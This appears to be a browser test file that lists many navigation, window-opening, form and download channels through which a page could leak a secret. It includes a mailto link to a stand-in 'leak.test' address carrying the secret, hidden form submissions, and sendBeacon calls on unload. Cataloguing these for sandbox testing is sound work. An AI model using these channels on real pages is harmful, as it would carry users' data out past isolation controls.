// Ways that take the page along, or open another one.

const form = (properties, { secret }) => {
  const made = add('form', properties);
  add('input', { name: 'answers', value: secret }, made);
  made.submit();
};

define(quiet('windows'), {
  window: ({ to }) => open(to),
  windowThenWrite: ({ to }) => {
    open('').location = to;
  },
  windowBlank: ({ to }) => open('about:blank').fetch(to),
  windowBlob: ({ to }) => open(blobOf(`<img src="${to}">`)),
  windowScript: ({ to }) => open(`javascript:"<img src=${to}>"`),
  windowPopup: ({ to }) => open(to, 'other', 'popup,noopener'),
  blankLink: ({ to }) => add('a', { href: to, target: '_blank' }).click(),
  openerLink: ({ to }) => add('a', { href: to, target: '_blank', rel: 'opener' }).click(),
  blankArea: ({ to }) => add('area', { href: to, target: '_blank' }).click(),
  blankForm: (me) => form({ action: me.to, target: '_blank' }, me),
  blankFormPost: (me) => form({ action: me.to, target: '_blank', method: 'post' }, me),
  downloadBlank: ({ to }) => add('a', { href: to, download: 'x', target: '_blank' }).click(),
  pictureInPicture: async ({ to }) => {
    (await documentPictureInPicture.requestWindow()).location = to;
  },
});

// Each resembles another one.
const more = [
  ...['assign', 'documentLocation', 'locationHost', 'svgLink', 'formPost', 'formSubmitter', 'formDialog'],
  ...['ownForm', 'parentLocation', 'topReplace', 'windowParent', 'windowSelf', 'downloadPing'],
  ...['dataDownload', 'openAndWrite'],
];
define(alone, {
  location: ({ to }) => {
    location = to;
  },
  ownLocation: ({ own }) => {
    location = own;
  },
  replace: ({ to }) => location.replace(to),
  assign: ({ to }) => location.assign(to),
  documentLocation: ({ to }) => {
    document.location = to;
  },
  locationHost: ({ host }) => {
    location.host = host;
  },
  blobLocation: ({ to }) => {
    location = blobOf(`<img src="${to}">`);
  },
  dataLocation: ({ to }) => {
    location = `data:text/html,<img src="${to}">`;
  },
  scriptLocation: ({ to }) => {
    location = `javascript:'<img src="${to}">'`;
  },
  mailto: ({ secret }) => {
    location = `mailto:x@leak.test?body=${secret}`;
  },
  link: ({ to }) => add('a', { href: to }).click(),
  ownLink: ({ own }) => add('a', { href: own }).click(),
  svgLink: ({ to }) => {
    const link = svg('a', { href: to });
    stage().append(svg('svg', {}, link));
    link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
  },
  baseLink: ({ to }) => {
    add('base', { href: to }, document.head);
    add('a', { href: '?base' }).click();
  },
  refresh: ({ to }) =>
    add('meta', { httpEquiv: 'refresh', content: `0;url=${to}` }, document.head),
  formGet: (me) => form({ action: me.to }, me),
  formPost: (me) => form({ action: me.to, method: 'post' }, me),
  formSubmitter: ({ to }) => {
    const made = add('form', {});
    made.requestSubmit(add('button', { formAction: to, type: 'submit' }, made));
  },
  formDialog: ({ to }) => add('form', { method: 'dialog', action: to }).submit(),
  ownForm: (me) => form({ action: me.own }, me),
  topLocation: ({ to }) => {
    top.location = to;
  },
  parentLocation: ({ to }) => {
    parent.location = to;
  },
  topReplace: ({ to }) => top.location.replace(to),
  topHash: ({ secret }) => {
    top.location.hash = secret;
  },
  windowTop: ({ to }) => open(to, '_top'),
  windowParent: ({ to }) => open(to, '_parent'),
  windowSelf: ({ to }) => open(to, '_self'),
  topTarget: ({ to }) => add('a', { href: to, target: '_top' }).click(),
  parentForm: (me) => form({ action: me.to, target: '_parent' }, me),
  ping: ({ to }) => add('a', { href: '#here', ping: to }).click(),
  ownDownload: ({ own }) => add('a', { href: own, download: 'x' }).click(),
  downloadPing: ({ to }) => add('a', { href: 'data:,x', ping: to, download: 'x' }).click(),
  blobDownload: ({ secret }) =>
    add('a', { href: blobOf(secret), download: 'x.html' }).click(),
  dataDownload: ({ secret }) =>
    add('a', { href: `data:text/html,${secret}`, download: 'x.html' }).click(),
  download: ({ to }) => add('a', { href: to, download: 'x' }).click(),
  navigate: ({ to }) => navigation.navigate(to),
  openAndWrite: ({ to }) => {
    document.open();
    document.write(`<img src="${to}">`);
    document.close();
  },
  close: ({ to }) => {
    addEventListener('pagehide', () => navigator.sendBeacon(to));
    addEventListener('unload', () => fetch(to, { keepalive: true, mode: 'no-cors' }));
    location = 'about:blank';
  },
});
for (const name of more) channels[name].isMore = true;
